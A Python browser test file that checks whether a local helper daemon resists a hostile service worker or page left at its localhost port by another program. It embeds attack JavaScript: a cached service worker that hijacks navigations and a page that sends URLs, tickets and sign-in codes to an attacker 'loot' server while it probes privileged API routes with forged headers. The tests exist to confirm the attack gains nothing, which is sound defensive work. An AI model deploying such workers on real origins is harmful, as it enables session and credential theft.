"""
T56 and T57: what another program has left at ``localhost:PORT`` is nobody, however hard it tries.

The service worker and the page here are written for the attack: they know every path and header of the helper.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote

import aiohttp
import pytest
from playwright.async_api import expect

from tests.browser.dashboard import dashboard_link, one_time_link
from tests.browser.sign_in import open_from_system, sign_up
from tests.support.browser import Console, Site
from tests.support.daemon import DaemonProcess
from tests.support.effects import no_effect
from tests.support.until import until, until_async
from tests.support.web_tool import BUTTON, approve, connect_js, popup_of, wait_for_state
from tests.support.world import World
from upstash_helper.protocol.pages_origin import SITE

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from contextlib import AbstractAsyncContextManager
    from pathlib import Path

    from playwright.async_api import BrowserContext, Page

    from tests.support.sandbox import Sandbox
    from upstash_helper.client.daemon import DaemonClient

pytestmark = pytest.mark.slow

REGISTER = """<!doctype html><title>Other app</title><link rel=icon href=data:,><h1>Other app</h1>
<script>
  // The browser then takes updates of the worker from its cache, so that the helper cannot replace it for a day.
  window.ready = navigator.serviceWorker.register("/sw.js", { updateViaCache: "all" })
    .then(() => navigator.serviceWorker.ready);
</script>"""
CACHED = {"Cache-Control": "max-age=86400"}

# What the worker answers every navigation with. It sends its address, and tries everything that gives power.
TAKES_OVER = """<!doctype html><link rel=icon href=data:,><h1>Taken over</h1><script>
  const to = "LOOT";
  const send = (what) => fetch(`${to}?${encodeURIComponent(JSON.stringify(what))}`, { mode: "no-cors" });
  const json = { "Content-Type": "application/json" };
  const ask = (path, options = {}) => fetch(path, options).then(
    async (response) => [path, response.status, (await response.text()).slice(0, 200)],
    (error) => [path, error.name, ""]);
  addEventListener("message", ({ data, ports }) => {
    send(["message", data]);
    ports[0]?.postMessage({ ready: true });
    if (ports[0]) ports[0].onmessage = ({ data: request }) => send(["relayed", request]);
  });
  window.opener?.postMessage({ upstashHelper: "bridge-loaded" }, "*");
  (async () => {
    await send(["address", location.href]);
    const ticket = new URLSearchParams(location.hash.slice(1)).get("ticket") ?? "guess";
    const bank = { ...json, "Upstash-Helper-On-Behalf-Of": "https://bank.example" };
    const begun = await ask("/v1/dashboard/sessions", {
      method: "POST", headers: json, body: JSON.stringify({ ticket }) });
    const token = begun[1] === 201 ? JSON.parse(begun[2]).token : "guess";
    const session = { Authorization: `Bearer ${token}` };
    const body = JSON.stringify({ name: "Bank", scopes: ["databases:read"] });
    await send(["tried", [
      begun,
      await ask("/v1/databases", { headers: session }),
      await ask("/v1/apps", { headers: session }),
      await ask("/v1/pairings", { method: "POST", headers: bank, body }),
      await ask("/v1/pairings", { method: "POST", headers: json, body }),
      await ask("/v1/pairings/x", { headers: bank }),
      await ask("/bridge"),
      await ask("/?"),
    ]]);
    document.title = "done";
  })();
</script>"""
WORKER = """
const page = PAGE;
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  if (event.request.mode !== "navigate") return;
  const seen = encodeURIComponent(JSON.stringify(["navigation", event.request.url]));
  event.waitUntil(fetch(`LOOT?${seen}`, { mode: "no-cors" }));
  event.respondWith(new Response(page, { headers: { "Content-Type": "text/html" } }));
});
"""


@dataclass(frozen=True)
class Home:
    """Where the daemon runs, once another program has left its port."""

    folder: Path
    sandbox: Sandbox
    port: int

    def running(self) -> AbstractAsyncContextManager[World]:
        """Run the daemon."""
        return World.running(self.folder, self.sandbox, self.port)


@pytest.fixture(name="home")
def _home(tmp_path: Path, sandbox: Sandbox, daemon_port: int) -> Home:
    return Home(tmp_path, sandbox, daemon_port)


@dataclass
class Loot:
    """A server of the attacker, to which the worker and its pages send what they get."""

    site: Site

    @classmethod
    @contextlib.asynccontextmanager
    async def collected(cls) -> AsyncIterator[Loot]:
        """Run the server."""
        async with Site.serving() as site:
            yield cls(site)

    @property
    def taken(self) -> list[Any]:
        """Everything that was sent: its kind, and what it is."""
        queries = (path.partition("?")[2] for _, path in self.site.requests if path.startswith("/loot?"))
        return [json.loads(unquote(query)) for query in queries]

    def of(self, kind: str) -> list[Any]:
        """Return what was sent of one kind."""
        return [what for name, what in self.taken if name == kind]

    def has(self, secret: str) -> bool:
        """Return whether ``secret`` is in anything that was sent."""
        return secret in json.dumps(self.taken)


def hostile_files(loot: Loot) -> dict[str, str]:
    """Return the page and the worker of an app that answers for the daemon."""
    address = f"{loot.site.origin}/loot"
    html = TAKES_OVER.replace("LOOT", address)
    script = WORKER.replace("PAGE", json.dumps(html).replace("</", "<\\/")).replace("LOOT", address)
    return {"/": REGISTER, "/sw.js": script}


async def leave_hostile_worker(page: Page, port: int, loot: Loot) -> None:
    """Run another app at the daemon's address, load its page once, and stop it."""
    async with Site.serving(hostile_files(loot), headers=CACHED, host="localhost", port=port) as other:
        await page.goto(other.origin)
        await page.evaluate("window.ready.then(() => 0)")


async def test_t56_worker_gets_no_ticket_and_no_session(
    home: Home, page: Page, context: BrowserContext, console: Console
) -> None:
    """
    The dashboard opens at once, from the link that ``upstash-helper open`` gives the browser, and the worker sees
    nothing of it.
    """
    console.expect("ERR_CONNECTION_REFUSED")
    async with Loot.collected() as loot:
        await leave_hostile_worker(page, home.port, loot)
        async with home.running() as world:
            await world.connect()
            tab = await open_from_system(context, await one_time_link(world))

            await expect(tab.get_by_role("heading", name=world.email)).to_be_visible()

            assert tab.url.startswith(f"{world.pages}/")
            assert [] == loot.taken


async def test_t56_worker_that_answers_the_old_address_gets_nothing(
    home: Home, page: Page, context: BrowserContext, console: Console
) -> None:
    """
    A user who types the address of the daemon gets the worker's page, which tries every route with power: it gets no
    session, no bridge, and no prompt.
    """
    console.expect("status of 40[0-9]|Failed to fetch|CORS|ERR_FAILED|404|Content Security")
    async with Loot.collected() as loot:
        await leave_hostile_worker(page, home.port, loot)
        async with home.running() as world:
            ticket = (await dashboard_link(world)).partition("ticket=")[2]
            async with no_effect(world):
                tab = await context.new_page()
                await tab.goto(f"http://localhost:{home.port}/#ticket={ticket}")
                await until_async(lambda: bool(loot.of("tried")))

            [tried] = loot.of("tried")
            assert [403, 403, 403, 403, 403] == [status for _, status, _ in tried[:5]]
            assert {"TypeError", 403} >= {status for _, status, _ in tried[5:]}
            assert [] == (await world.get("/v1/pairings")).json["pairings"]


async def test_t56_worker_does_not_reach_the_bridge(
    home: Home, page: Page, context: BrowserContext, console: Console
) -> None:
    """
    The bridge opens although the worker would answer its former address, and the page's requests and its token stay
    between the page and the helper. The prompt says that the request came over the bridge.
    """
    console.expect("status of 40[0-9]")
    tool = """<!doctype html><meta charset="utf-8"><title>Tool</title><link rel="icon" href="data:,">
    <script type="module" src="/connect.js"></script>
    <upstash-connect name="Tool" scopes="databases:read" bridge></upstash-connect>"""
    async with Loot.collected() as loot:
        await leave_hostile_worker(page, home.port, loot)
        async with home.running() as world:
            await world.connect()
            async with Site.serving({"/": tool, "/connect.js": connect_js(world)}) as site:
                await page.goto(site.origin)
                await page.locator(BUTTON).click()
                pairing = await approve(world)
                bridge = await popup_of(context, page)
                await wait_for_state(page, "connected")

                assert bridge.url == f"{world.pages}/bridge"
                assert (site.origin, True) == (pairing["identity"]["name"], pairing["via_bridge"])
                assert [] == loot.taken


async def test_t56_worker_that_answers_the_redirect_can_only_withhold_it(
    home: Home, page: Page, context: BrowserContext, console: Console
) -> None:
    """
    It reads the code and the state, since the redirect goes to the shared address. They are worth nothing without the
    verifier, and it gets neither the account nor the API. The user can still finish the sign-in with that address.
    """
    console.expect("status of 40[0-9]|Failed to fetch|CORS|ERR_FAILED|Content Security")
    async with Loot.collected() as loot:
        await leave_hostile_worker(page, home.port, loot)
        async with home.running() as world:
            started = await world.start()
            tab = await context.new_page()
            await tab.goto(started["authorization_url"])
            await sign_up(tab, world.email)
            await until_async(lambda: bool(loot.of("tried")))
            attempt = f"/v1/connection/attempts/{started['attempt_id']}"
            before = (await world.get(attempt)).json["state"]
            await world.call("POST", f"{attempt}/redirect", {"address": tab.url})
            after = (await world.settled(started["attempt_id"]))["state"]

            assert ("pending", "succeeded") == (before, after)
            assert loot.has("code=")
            assert [] == [secret for secret in (world.email, world.owner) if loot.has(secret)]
            assert [] == [status for tried in loot.of("tried") for _, status, _ in tried if status in (200, 201, 202)]


async def test_t56_worker_left_at_the_name_itself_gets_no_ticket(
    tmp_path: Path, daemon_port: int, page: Page, context: BrowserContext, console: Console
) -> None:
    """
    A program that has the port of ``::1``, which browsers prefer, when the daemon starts can find out the name of the
    owner's pages, and leave a worker there. When that program has ended, the pages have another name.
    """
    console.expect("ERR_CONNECTION_REFUSED|status of 40")
    daemon = DaemonProcess(tmp_path / "home", port=daemon_port)
    with contextlib.ExitStack() as stack:
        stack.callback(daemon.kill)
        async with Loot.collected() as loot:
            async with Site.serving(hostile_files(loot), headers=CACHED, port=daemon_port, address="::1"):
                client = await asyncio.to_thread(daemon.start)
                name = await name_of_pages(daemon_port)
                await page.goto(f"http://{name}/")
                await page.evaluate("window.ready.then(() => 0)")
                before = await asyncio.to_thread(client.open_dashboard)
            link = await asyncio.to_thread(until, lambda: named_link(client))
            tab = await open_from_system(context, link)
            await expect(tab.get_by_role("heading", name="Overview")).to_be_visible()
            shown = tab.url
            await tab.close()

            assert before.url == before.numeric_url
            assert f"http://{name}/" != shown
            assert [] == loot.taken


def named_link(client: DaemonClient) -> str:
    """Return the link to the dashboard; an empty string if its address is numeric."""
    url = client.open_dashboard().url
    return url if SITE in url else ""


async def name_of_pages(port: int) -> str:
    """Return the Host of the owner's pages, as a program finds it out."""
    async with (
        aiohttp.ClientSession() as session,
        session.get(
            f"http://127.0.0.1:{port}/bridge", headers={"Host": f"{SITE}:{port}"}, allow_redirects=False
        ) as response,
    ):
        return response.headers["Location"].split("/")[2]


async def test_t57_page_left_open_is_nobody(home: Home, page: Page, console: Console) -> None:
    """
    A page that an earlier program left open at the daemon's address uses the headers of the bridge and of the
    dashboard, with every mode of fetch, a frame, and a window.
    """
    console.expect(".")
    async with Site.serving({"/": "<!doctype html><h1>Left open</h1>"}, host="localhost", port=home.port) as site:
        await page.goto(site.origin)
    async with home.running() as world:
        await world.connect()
        ticket = (await dashboard_link(world)).partition("ticket=")[2]
        async with no_effect(world):
            got = await page.evaluate(LEFT_OPEN, [ticket, world.pages])
        usable = await world.call(
            "POST", "/v1/dashboard/sessions", {"ticket": ticket}, headers=world.as_own_page(), token=None
        )

        assert [] == [one for one in got if one not in ("TypeError", 403, 404, "nothing")]
        assert [] == (await world.get("/v1/pairings")).json["pairings"]
        assert 201 == usable.status, "the ticket was used up"


LEFT_OPEN = """async ([ticket, pages]) => {
  const json = { "Content-Type": "application/json" };
  const bank = { "Upstash-Helper-On-Behalf-Of": "https://bank.example" };
  const ask = JSON.stringify({ name: "Bank", scopes: ["databases:read"] });
  const results = [];
  for (const base of ["", pages]) {
    for (const mode of ["cors", "same-origin", "no-cors"]) {
      const send = (path, options = {}) => fetch(base + path, { ...options, mode }).then(
        (response) => (response.type === "opaque" ? "nothing" : response.status), (error) => error.name);
      results.push(
        await send("/v1/dashboard/sessions", { method: "POST", headers: json, body: JSON.stringify({ ticket }) }),
        await send("/v1/pairings", { method: "POST", headers: { ...json, ...bank }, body: ask }),
        await send("/v1/pairings", { method: "POST", headers: json, body: ask }),
        await send("/v1/pairings/x", { headers: { ...bank, Authorization: "Bearer x" } }),
        await send("/v1/token", { headers: { ...bank, Authorization: "Bearer x" } }),
        await send("/v1/connection", { headers: bank }),
        await send("/web/pages/page.js"),
        await send("/attempts/x/state"),
      );
    }
    const frame = document.createElement("iframe");
    frame.src = `${base}/bridge`;
    document.body.append(frame);
    await new Promise((done) => { frame.onload = done; });
    results.push(frame.contentDocument?.querySelector("#title") ? "the bridge" : "nothing");
  }
  return results;
}"""
